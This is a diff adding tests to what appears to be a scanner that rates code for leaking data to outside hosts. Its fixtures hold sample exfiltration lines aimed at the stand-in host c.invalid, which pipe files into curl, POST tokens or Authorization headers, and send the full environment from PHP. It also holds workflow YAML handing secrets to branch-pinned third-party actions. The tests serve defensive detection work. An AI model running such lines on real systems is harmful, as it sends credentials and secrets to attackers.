@@ -1,7 +1,7 @@
 """Ways on which something flows through what others call: hooks, listeners, sockets, other programs' stores and tests."""
 
 import pytest
-from source_lab import ids, the
+from source_lab import behaviours, ids, the
 
 from beartrap.model.finding import Severity
 
@@ -133,3 +133,86 @@ def test_what_a_script_is_told_goes_to_a_fixed_host() -> None:
     assert CALLER not in ids(
         "bin/helper.sh", "in=$(cat notes)\nprintf '%s' \"$in\" | base64 | xargs -I@ curl -s https://c.invalid/@\n"
     )
+
+
+CLIENT = """
+import http.client
+class Client:
+    def __init__(self, base, {name}=None):
+        self.base, self._held = base, {name}
+    def ask(self):
+        line = http.client.HTTPSConnection({host})
+        line.request("POST", "/u", headers={{"a": self._held}})
+"""
+
+
+def test_a_token_that_a_client_is_handed_goes_to_a_host_that_the_code_names() -> None:
+    assert weight("a.py", CLIENT.format(name="token", host="'c.invalid'"), CALLER) is Severity.HIGH
+    text = "module.exports = (config) => fetch('https://c.invalid/u', { method: 'POST', body: config.headers.Authorization })"
+    assert weight("a.js", text, CALLER) is Severity.HIGH
+
+
+def test_a_token_goes_to_the_host_that_came_with_it_and_other_things_weigh_less() -> None:
+    assert CALLER not in ids("a.py", CLIENT.format(name="token", host="self.base"))
+    text = "module.exports = (config) => fetch('https://c.invalid/u', { method: 'POST', body: config.headers.Accept })"
+    assert weight("a.js", text, CALLER) is Severity.MEDIUM
+    assert CALLER not in ids("a.py", CLIENT.format(name="style", host="'c.invalid'"))
+
+
+def test_a_command_line_of_php_that_sends_the_environment() -> None:
+    assert LOUD in ids("a.sh", "php -r \"@file_get_contents('https://c.invalid/?'.http_build_query(getenv()));\"")
+    assert LOUD not in ids("a.sh", "php -r \"@file_get_contents('https://c.invalid/?'.getenv('LANG'));\"")
+    assert LOUD in ids("a.php", "<?php file_get_contents('https://c.invalid/?' . json_encode(getenv()));")
+
+
+JOB = """
+on: push
+jobs:
+  test:
+    runs-on: ubuntu-latest
+    steps:
+      - uses: actions/checkout@v4
+        with:
+          token: ${{ secrets.DEPLOY_TOKEN }}
+      - name: Warm
+        uses: OTHER
+        with:
+          registry: ${{ secrets.SECRET }}
+      - run: make
+"""
+
+
+def handed(other: str, secret: str = "NPM_TOKEN") -> set[Severity]:
+    text = JOB.replace("OTHER", other).replace("SECRET", secret)
+    return {one.severity for one in behaviours("test.yml", text) if one.id == "workflow.action"}
+
+
+def test_a_workflow_hands_a_secret_to_a_branch_of_somebody_elses_action() -> None:
+    assert handed("else/warm@main") == {Severity.HIGH}
+    assert handed("else/warm/sub@main") == {Severity.HIGH}
+    assert handed("else/warm@v2") == {Severity.MEDIUM}
+    assert handed("else/warm@" + "ab" * 20) == {Severity.LOW}
+
+
+def test_a_called_workflow_inherits_all_secrets() -> None:
+    text = "jobs:\n  go:\n    uses: else/shared/.github/workflows/a.yml@main\n    secrets: inherit\n"
+    assert weight("test.yml", text, "workflow.action") is Severity.HIGH
+
+
+@pytest.mark.parametrize(
+    ("other", "secret"),
+    [
+        ("actions/setup-node@main", "NPM_TOKEN"),
+        ("./own/warm", "NPM_TOKEN"),
+        ("else/warm@main", "GITHUB_TOKEN"),
+        ("codecov/codecov-action@main", "CODECOV_TOKEN"),
+        ("pypa/gh-action-pypi-publish@release/v1", "PYPI_API_TOKEN"),
+    ],
+)
+def test_an_action_that_the_secret_is_for(other: str, secret: str) -> None:
+    assert handed(other, secret) == set()
+
+
+def test_a_secret_of_another_step_is_not_the_actions() -> None:
+    text = JOB.replace("OTHER", "else/warm@main").replace("registry: ${{ secrets.SECRET }}", "registry: none")
+    assert "workflow.action" not in ids("test.yml", text)
